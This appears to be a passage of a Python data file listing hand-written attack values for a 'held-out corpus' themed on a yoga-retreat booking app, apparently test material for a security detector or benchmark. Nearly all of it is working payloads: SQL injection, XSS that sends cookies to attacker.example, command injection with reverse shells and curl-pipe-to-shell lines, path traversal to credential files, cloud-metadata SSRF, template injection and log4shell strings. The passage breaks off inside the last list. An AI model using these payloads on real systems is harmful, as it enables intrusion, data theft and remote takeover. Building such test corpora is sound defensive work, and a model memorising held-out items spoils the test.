#!/usr/bin/env python3
"""Attack values for the yogaretreat held-out corpus (hand-written, seed 36102)."""
import json, os, random

SEED = 36102
rng = random.Random(SEED)

SQLI = [
    ("union", "yin retreat' UNION SELECT guest_name, card_last4, NULL FROM bookings-- -"),
    ("union", "0 UNION ALL SELECT 1,concat(email,0x3a,password_hash),3,4 FROM staff_users#"),
    ("union", "silent%' union select table_name,null,null from information_schema.tables where table_schema=database()-- "),
    ("union", "YR-10231' UnIoN SeLeCt username,password,NULL,NULL FROM admin_accounts LIMIT 1 OFFSET 0--"),
    ("union", "-1 union/**/select/**/group_concat(column_name),2/**/from/**/information_schema.columns/**/where/**/table_name='payments'"),
    ("union", "')) UNION SELECT iban, amount, NULL FROM payment_imports WHERE ((1=1"),
    ("union", "vegan' union select sqlite_version(),name,sql from sqlite_master--"),
    ("union", "3 UNION SELECT NULL,@@version,user(),NULL-- x"),
    ("union", "Room 4' UNION SELECT pg_read_file('/etc/passwd'),NULL--"),
    ("union", "yoga'/*!50000UNION*//*!50000SELECT*/ 1,load_file('/etc/hosts'),3-- -"),
    ("boolean", "yin' OR '1'='1"),
    ("boolean", "YR-10232' or 2>1-- "),
    ("boolean", "maya' AND substring((select password from staff_users where username='admin'),1,1)='a'--"),
    ("boolean", "1 AND ascii(substr((SELECT card_token FROM payments LIMIT 1),3,1))>77"),
    ("boolean", "o'brien' OR 'x'='x' -- and her sister"),
    ("boolean", "price > 300' or true--"),
    ("boolean", "teacher_id=7 oR 1=1"),
    ("boolean", "Zoë' || '1'='1"),
    ("boolean", "retreat' AND (SELECT COUNT(*) FROM staff_users)>0 AND 'a'='a"),
    ("boolean", "' OR 1 IN (SELECT 1 FROM bookings WHERE guest_email LIKE '%@attacker.example')--"),
    ("time", "yin'; SELECT pg_sleep(7)--"),
    ("time", "1' AND SLEEP(6)-- -"),
    ("time", "2024-06-01'; WAITFOR DELAY '0:0:8'--"),
    ("time", "silent' AND (SELECT 4411 FROM (SELECT(SLEEP(5)))a)-- x"),
    ("time", "1 AND BENCHMARK(9000000,SHA1('namaste'))"),
    ("time", "vegan' AND 1=(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--"),
    ("time", "x' || (select case when (substr(user,1,1)='S') then dbms_pipe.receive_message('a',6) else null end from dual) || '"),
    ("time", "Room 7'+IF(1=1,SLEEP(4),0)+'"),
    ("time", "YR-10240' AND randomblob(900000000)--"),
    ("stacked", "Great weekend!'); DROP TABLE guest_feedback;--"),
    ("stacked", "YR-10233'; UPDATE bookings SET amount_due=0 WHERE ref='YR-10233';--"),
    ("stacked", "vegan'; INSERT INTO staff_users(username,password,role) VALUES('helper','x','admin');--"),
    ("stacked", "1; EXEC xp_cmdshell 'whoami'--"),
    ("stacked", "2024-06-02;YR-1;EUR;0';DELETE FROM payment_imports WHERE '1'='1"),
    ("stacked", "Room 3'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("stacked", "Maya'; ALTER USER postgres WITH PASSWORD 'changeme';--"),
    ("stacked", "x'; CREATE TABLE t(x text); COPY t FROM '/etc/passwd';--"),
    ("error", "yin' AND extractvalue(1,concat(0x7e,(SELECT database()),0x7e))-- -"),
    ("error", "1' AND updatexml(null,concat(0x3a,(select version())),null)--"),
    ("error", "Ana' AND 1=CONVERT(int,(SELECT TOP 1 email FROM guests))--"),
    ("error", "' AND 1=CAST((SELECT string_agg(password_hash, ',') FROM staff_users) AS int)--"),
    ("error", "ref' AND (select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x from information_schema.tables group by x)a)--"),
    ("error", "YR-10250' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--"),
    ("oob", "silent'; SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM staff_users LIMIT 1),'.attacker.example\\\\a'))--"),
    ("oob", "1'; exec master..xp_dirtree '//sql.attacker.example/x'--"),
    ("oob", "x' UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--"),
    ("oob", "vegan'; COPY bookings TO PROGRAM 'nc 203.0.113.14 4444';--"),
    ("orderby", "price ASC, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("orderby", "start_date,(select sleep(5))"),
    ("orderby", "1,IF((SELECT 1 FROM staff_users WHERE username='admin')=1,name,price)"),
    ("orderby", "name desc; drop table rooms"),
    ("comment-obfusc", "yin'/**/oR/**/1=1#"),
    ("comment-obfusc", "1'/*retreat*/UNION/*x*/SELECT/*y*/password/*z*/FROM/**/staff_users--+"),
    ("comment-obfusc", "vegan'%0aor%0a1=1--%0a"),
    ("comment-obfusc", "maya'\tOR\t'a'\t=\t'a"),
    ("comment-obfusc", "ref=YR-1'/*!or*/ 1 like 1-- -"),
    ("encoded", "yin%27%20OR%20%271%27%3D%271"),
    ("encoded", "silent%2527%2520UNION%2520SELECT%2520password%2520FROM%2520staff_users--"),
    ("encoded", "Room 4＇ ＯＲ １＝１--"),
    ("encoded", "vegan%u0027 or 1=1--"),
    ("encoded", "1 union select char(97,100,109,105,110),2,3--"),
    ("encoded", "x' or username=0x61646d696e--"),
    ("second-order", "Maya' -- "),
    ("second-order", "admin'-- "),
    ("second-order", "Priya\\' OR 1=1 -- "),
    ("json-sqli", "{\"ref\": \"YR-1' OR '1'='1\", \"guests\": 2}"),
    ("json-sqli", "yin' AND JSON_EXTRACT('{\"a\":1}','$.a')=1 UNION SELECT card_token FROM payments--"),
    ("csv-sqli", "2024-06-03;YR-10235';DROP TABLE payments;--;GBP;350.00;card;paid"),
    ("sqlite", "Lotus' UNION SELECT 1,group_concat(sql),3 FROM sqlite_master WHERE type='table'--"),
    ("mssql", "Cedar'; DECLARE @q varchar(99); SET @q='\\\\attacker.example\\s'; EXEC master.dbo.xp_fileexist @q;--"),
]
SQLI_URLENC = [
    ("boolean", "' OR 'a'='a' -- "),
    ("union", "' UNION SELECT email, password_hash FROM staff_users-- "),
    ("time", "1 AND SLEEP(5)"),
    ("stacked", "'; DROP TABLE bookings;--"),
    ("error", "' AND 1=CONVERT(int,@@version)--"),
]
SQLI_POOL = ["' OR 1=1-- ", "' UNION SELECT null,password FROM staff_users-- ", "'; SELECT pg_sleep(6)-- ", "' AND SLEEP(5)#", "') OR ('1'='1"]
SQLI_PREFIX = ["retreat near lisbon", "YR-10288", "Siobhán", "yin weekend june", "room 12"]

XSS = [
    ("tag", "Loved it! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("tag", "Maya's flow <script src=//attacker.example/x.js></script>"),
    ("tag", "<ScRiPt>new Image().src='//203.0.113.9/?c='+encodeURIComponent(document.cookie)</sCrIpT>"),
    ("event", "Great food <img src=x onerror=alert(document.domain)>"),
    ("event", "<svg onload=fetch('//attacker.example/'+localStorage.token)>"),
    ("event", "<body onpageshow=\"location='https://attacker.example/?'+document.cookie\">"),
    ("event", "<details open ontoggle=alert(1)>retreat info</details>"),
    ("event", "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>"),
    ("event", "Room 4 <video><source onerror=\"top['al'+'ert'](1)\"></video>"),
    ("event", "<marquee onstart=confirm`yoga`>namaste</marquee>"),
    ("event", "<div onmouseover='document.location=\"//attacker.example/s?\"+document.cookie'>hover for schedule</div>"),
    ("event", "<audio src=1 onerror=import('//attacker.example/m.js')>"),
    ("event", "<iframe srcdoc=\"<img src=x onerror=parent.alert(1)>\"></iframe>"),
    ("event", "<select autofocus onfocus=alert(1)><option>yin</option></select>"),
    ("event", "<textarea autofocus onfocus=alert(document.cookie)>feedback</textarea>"),
    ("event", "<a href=# onclick=\"fetch('/api/admin/users').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">see photos</a>"),
    ("event", "<object data=x onerror=alert(1)>"),
    ("event", "<style onload=alert(1)></style>"),
    ("event", "<img src=x:x onerror=window['ev'+'al'](name)>"),
    ("event", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("attr-break", "\"><img src=x onerror=alert(1)>"),
    ("attr-break", "Zoë\" autofocus onfocus=\"alert(document.cookie)"),
    ("attr-break", "yin' onmouseover='alert(1)' x='"),
    ("attr-break", "\" style=\"animation-name:spin\" onanimationstart=\"alert(1)"),
    ("attr-break", "Lotus\"><svg/onload=alert`1`>"),
    ("attr-break", "'><script>alert(String.fromCharCode(88,83,83))</script>"),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\";fetch('//attacker.example/?'+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "${alert(1)}`;alert(2);`"),
    ("js-context", "Maya\\';alert(1);//"),
    ("js-context", "-alert(1)-'"),
    ("url-scheme", "javascript:alert(document.cookie)"),
    ("url-scheme", "https://yogaretreat.example\" onclick=\"alert(1)"),
    ("url-scheme", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("url-scheme", "java\tscript:alert(1)"),
    ("url-scheme", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("url-scheme", "<a href=\"jav&#x61;script:alert(1)\">my instagram</a>"),
    ("url-scheme", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("url-scheme", "<form action=javascript:alert(1)><button>Book now</button></form>"),
    ("url-scheme", "[my website](javascript:alert(document.domain))"),
    ("url-scheme", "<math><a xlink:href=\"javascript:alert(1)\">click</a></math>"),
    ("encoded", "&lt;script&gt;alert(1)&lt;/script&gt; <img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "＜script＞alert(1)＜/script＞"),
    ("encoded", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("encoded", "<svg onload=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("encoded", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("encoded", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("encoded", "<img src=\"x\" onerror=\"eval('\\x61\\x6c\\x65\\x72\\x74(1)')\">"),
    ("svg-xml", "<svg><script>alert(1)</script></svg>"),
    ("svg-xml", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("svg-xml", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>tap</text></a></svg>"),
    ("svg-xml", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("dom-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("dom-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("dom-mxss", "<template><script>alert(1)</script></template><div id=t></div>"),
    ("dom-mxss", "#<img src=1 onerror=alert(location.hash)>"),
    ("dom-clobber", "<form id=config><input name=apiUrl value=//attacker.example/></form>"),
    ("dom-clobber", "<a id=defaultAvatar><a id=defaultAvatar name=avatar href=\"cid:&quot;onerror=alert(1)//\">"),
    ("css", "<div style=\"background:url(javascript:alert(1))\">"),
    ("css", "<style>@import'//attacker.example/x.css';</style>"),
    ("css", "<link rel=stylesheet href=//attacker.example/steal.css>"),
    ("meta", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("base", "<base href=\"//attacker.example/\">"),
    ("framework", "{{constructor.constructor('alert(1)')()}}"),
    ("framework", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>"),
    ("framework", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
]
XSS_POOL = ["<img src=x onerror=alert(document.cookie)>", "<svg/onload=fetch('//attacker.example/'+document.cookie)>", "\"><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "<details open ontoggle=alert(origin)>"]
XSS_PREFIX = ["Best weekend ever! ", "Vegan, no honey ", "Teacher bio: Maya has taught for 12 years ", "Room 4 — Lotus ", "Thank you team "]

CMDI = [
    ("separator", "retreat-photos.zip; cat /etc/passwd"),
    ("separator", "yin.pdf && curl -s http://attacker.example/s.sh | sh"),
    ("separator", "rooms.csv | nc 203.0.113.7 9001 -e /bin/sh"),
    ("separator", "invoice-YR-10231.pdf || wget -qO- http://198.51.100.4/b | bash"),
    ("separator", "maya.jpg;id"),
    ("separator", "teacher.png;uname${IFS}-a"),
    ("separator", "2024-06-01 & whoami"),
    ("separator", "schedule.ics\nid\n"),
    ("separator", "avatar.jpg%0Acat%20/etc/shadow"),
    ("separator", "payments.csv\r\nwhoami"),
    ("separator", "guest@yoga.example; rm -rf /var/www/uploads/*"),
    ("separator", "Zoë & ping -c 3 203.0.113.22 &"),
    ("subshell", "$(id)"),
    ("subshell", "booking-$(curl attacker.example/$(whoami)).pdf"),
    ("subshell", "`cat /etc/passwd`"),
    ("subshell", "photo_`uname -a`.jpg"),
    ("subshell", "retreat $(sleep 8) weekend"),
    ("subshell", "$(printf 'aWQ='|base64 -d|sh)"),
    ("subshell", "x$(nslookup $(hostname).attacker.example)"),
    ("subshell", "{{ lipsum }} $(</etc/passwd)"),
    ("ifs-obfusc", "a;cat${IFS}/etc/passwd"),
    ("ifs-obfusc", "x;{cat,/etc/passwd}"),
    ("ifs-obfusc", "q;c'a't /e't'c/pa's'swd"),
    ("ifs-obfusc", "q;c\\at /e\\tc/pas\\swd"),
    ("ifs-obfusc", "a|/???/??t /???/p??s??"),
    ("ifs-obfusc", "a;$0 -c 'id'"),
    ("ifs-obfusc", "z;w$@hoami"),
    ("ifs-obfusc", "x;cu''rl$IFS$9attacker.example/r|s''h"),
    ("ifs-obfusc", "x;X=$'\\x63\\x61\\x74';$X /etc/hosts"),
    ("ifs-obfusc", "n;${PATH:0:1}bin${PATH:0:1}id"),
    ("ifs-obfusc", "b;echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|bash"),
    ("reverse-shell", "x; bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"),
    ("reverse-shell", "x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("reverse-shell", "x|mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.50 9001 >/tmp/f"),
    ("reverse-shell", "x;perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(53,inet_aton(\"203.0.113.8\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'"),
    ("reverse-shell", "x; php -r '$s=fsockopen(\"198.51.100.77\",8080);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("reverse-shell", "x; socat tcp-connect:203.0.113.91:4443 exec:sh,pty,stderr"),
    ("download-exec", "yoga.jpg; wget http://attacker.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"),
    ("download-exec", "a; curl -o /tmp/.k http://198.51.100.3/k && sh /tmp/.k"),
    ("download-exec", "x;busybox wget -O- attacker.example/i.sh|ash"),
    ("download-exec", "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("windows", "invoice.pdf & type C:\\Windows\\win.ini"),
    ("windows", "x | dir C:\\inetpub\\wwwroot"),
    ("windows", "a && net user helper P@ssw0rd1 /add"),
    ("windows", "x & certutil -urlcache -f http://attacker.example/b.exe %TEMP%\\b.exe"),
    ("windows", "x | powershell -enc JABjAD0AJwBpAGQAJwA="),
    ("windows", "room.csv & cmd /c \"set > \\\\attacker.example\\share\\env.txt\""),
    ("argument", "-oProxyCommand=sh -c 'id>/tmp/x'"),
    ("argument", "--output=/var/www/html/s.php"),
    ("argument", "photo.jpg -write /var/www/html/shell.php"),
    ("argument", "guest@yoga.example -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("argument", "--checkpoint=1 --checkpoint-action=exec=sh s.sh"),
    ("argument", "-exec sh -c 'curl attacker.example|sh' ;"),
    ("argument", "https://attacker.example/x.jpg -o /var/www/html/x.php"),
    ("blind-time", "yin.jpg; sleep 10 #"),
    ("blind-time", "x|ping -n 11 127.0.0.1"),
    ("blind-time", "$(ping -c 9 localhost)"),
    ("blind-oob", "a;dig `whoami`.cmd.attacker.example"),
    ("blind-oob", "x; curl http://attacker.example/?d=$(cat /etc/hostname|base64)"),
    ("imagetragick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|id > /tmp/o\")'\npop graphic-context"),
    ("ghostscript", "%!PS\nuserdict /setpagedevice undef\n(%pipe%id > /tmp/gs) (w) file"),
    ("env-injection", "() { :; }; /bin/bash -c 'curl attacker.example/s|sh'"),
    ("env-injection", "() { :;}; echo; /usr/bin/id"),
]
CMDI_POOL = ["; cat /etc/passwd", " && id", " | nc 203.0.113.66 4444 -e /bin/sh", "$(curl -s attacker.example/x|sh)"]
CMDI_PREFIX = ["retreat-photos-june.zip", "invoice_YR-10231.pdf", "teacher-maya.jpg"]

TRAV = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "invoices/../../../../../etc/shadow"),
    ("dotdot", "teacher-photos/../../config/database.yml"),
    ("dotdot", "..\\..\\..\\..\\windows\\win.ini"),
    ("dotdot", "schedules/2024/../../../../proc/self/environ"),
    ("dotdot", "../../../var/www/yogaretreat/.env"),
    ("dotdot", "../../../../root/.ssh/id_rsa"),
    ("dotdot", "floorplan-v3.pdf/../../../../etc/hosts"),
    ("dotdot", "..././..././..././etc/passwd"),
    ("dotdot", "....//....//....//etc/passwd"),
    ("dotdot", "....\\\\....\\\\....\\\\boot.ini"),
    ("dotdot", "/var/www/uploads/../../../etc/nginx/nginx.conf"),
    ("dotdot", "../../../../home/yoga/.bash_history"),
    ("dotdot", "rooms.csv/../../../../../proc/self/cmdline"),
    ("dotdot", "..;/..;/..;/WEB-INF/web.xml"),
    ("absolute", "/etc/passwd"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "\\\\203.0.113.5\\share\\x.pdf"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("encoded", "..%2f..%2f..%2f..%2fvar%2flog%2fnginx%2faccess.log"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("encoded", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("encoded", "%u002e%u002e%u002f%u002e%u002e%u002fetc/passwd"),
    ("encoded", "．．／．．／．．／etc／passwd"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "..%255c..%255c..%255cboot.ini"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/app/config/secrets.json"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("nullbyte", "../../../../etc/passwd%00.pdf"),
    ("nullbyte", "invoice-YR-10231/../../../../etc/shadow\\u0000.png"),
    ("nullbyte", "../../../etc/hosts%00.jpg"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/photos.zip%23../../shell.php"),
    ("wrapper", "phar://uploads/avatar.jpg/test.txt"),
    ("wrapper", "jar:file:///opt/app/lib/app.jar!/application.properties"),
    ("zip-slip", "../../../../var/www/html/yoga-shell.php"),
    ("zip-slip", "retreat-photos/../../../../../etc/cron.d/yoga"),
    ("log-poison", "../../../../var/log/nginx/error.log"),
    ("template-file", "../../templates/admin/../../../../etc/passwd"),
]
TRAV_URLENC = ["../../../../etc/passwd", "../../../.env", "..\\..\\..\\windows\\win.ini", "../../../../proc/self/environ", "../../config/settings.py", "../../../../root/.aws/credentials"]

SSRF = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/latest/user-data"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin/export?format=csv"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://127.0.0.1:9200/_cat/indices"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "http://[::1]:8500/v1/agent/self"),
    ("loopback", "http://0.0.0.0:5984/_all_dbs"),
    ("loopback", "https://127.1/actuator/env"),
    ("internal", "http://10.0.0.12:8080/manager/html"),
    ("internal", "http://192.168.1.1/cgi-bin/config.exp"),
    ("internal", "http://172.17.0.1:2375/containers/json"),
    ("internal", "http://payments-db.internal:5432/"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("internal", "http://admin.yogaretreat.internal/users.json"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001:8080/"),
    ("alt-ip", "http://0177.0.0.1/"),
    ("alt-ip", "http://2852039166/latest/meta-data/"),
    ("alt-ip", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("alt-ip", "http://[::ffff:169.254.169.254]/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:7f00:1]:6379/"),
    ("alt-ip", "http://127.000.000.001:9000/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/admin"),
    ("parser-confusion", "https://yogaretreat.example@169.254.169.254/latest/meta-data/"),
    ("parser-confusion", "http://attacker.example#@yogaretreat.example/"),
    ("parser-confusion", "http://127.0.0.1\\@yogaretreat.example/"),
    ("parser-confusion", "http://yogaretreat.example.127.0.0.1.nip.io/"),
    ("parser-confusion", "http://localtest.me:8080/admin"),
    ("parser-confusion", "http://rebind.attacker.example/latest/meta-data/"),
    ("parser-confusion", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("parser-confusion", "http://127.0.0.1%2523@yogaretreat.example/"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example|sh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///proc/self/environ"),
    ("scheme", "ftp://10.0.0.5/backup/payments.sql"),
    ("scheme", "ldap://127.0.0.1:389/dc=yoga,dc=local"),
]
SSRF_POOL = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://[::1]:6379/", "http://10.0.0.2/internal/backup.sql", "http://0x7f.1/server-status"]
SSRF_PREFIX = ["https://yogaretreat.example/import?url=", "avatar_url=", "ical feed: ", "https://yogaretreat.example/api/preview?link="]

CODE = [
    ("ssti-jinja", "Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('curl attacker.example|sh') }}"),
    ("ssti-jinja", "Dear {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ config.items() }}"),
    ("ssti-jinja", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('whoami')|attr('read')() }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__['os'].environ }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "Hello <%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "<%= system('curl attacker.example/s|sh') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo shell_exec('whoami');{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs", "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-mako", "${self.module.cache.util.os.system('id')}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-go", "{{ .Request.Context }}{{ template \"x\" . }}{{ call .Exec \"id\" }}"),
    ("el-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("el-spel", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}"),
    ("el-spel", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el-jsp", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"),
    ("el-jsp", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-ognl", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('whoami'))}"),
    ("el-mvel", "Runtime.getRuntime().exec(\"id\");"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/yoga}"),
    ("log4shell", "Maya ${jndi:rmi://203.0.113.40:1099/o}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.9/x}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/z}"),
    ("log4shell", "great retreat ${jndi:ldaps://log.attacker.example/${sys:java.version}}"),
    ("log4shell", "$%7Bjndi:ldap://attacker.example/e%7D"),
    ("eval-js", "require('child_process').exec('curl attacker.example|sh')"),
    ("eval-js", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-js", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("eval-js", "1;global.process.exit()"),
    ("eval-py", "__import__('os').system('id')"),
    ("eval-py", "eval(compile('import os;os.system(\"whoami\")','x','exec'))"),
    ("eval-py", "().__class__.__bases__[0].__subclasses__()[133].__init__.__globals__['popen']('id').read()"),
    ("eval-py", "exec(\"import urllib.request as u;u.urlopen('http://attacker.example/'+open('/etc/passwd').read())\")"),
    ("eval-php", "<?php system($_GET['c']); ?>"),
    ("eval-php", "<?= `$_POST[x]` ?>"),
    ("eval-php", "${@system('id')}"),
    ("eval-php", "assert(base64_decode('c3lzdGVtKCJpZCIpOw=='));"),
    ("eval-php", "phpinfo();//"),
    ("eval-ruby", "#{`id`}"),
    ("eval-ruby", "Kernel.open('|curl attacker.example/r|sh')"),
    ("proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("proto-pollution", "__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2"),
    ("proto-pollution", "{\"guest\":{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}"),
    ("proto-pollution", "constructor[prototype][discount]=100"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Receipt\")"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "+WEBSERVICE(\"http://attacker.example/\"&C5)"),
    ("csv-formula", "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula", "-2+3+cmd|'/c notepad'!'A1'"),
    ("csv-formula", "YR-10299;Smith;=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:D20),\"//a\");EUR"),
    ("csv-formula", "\t=1+1"),
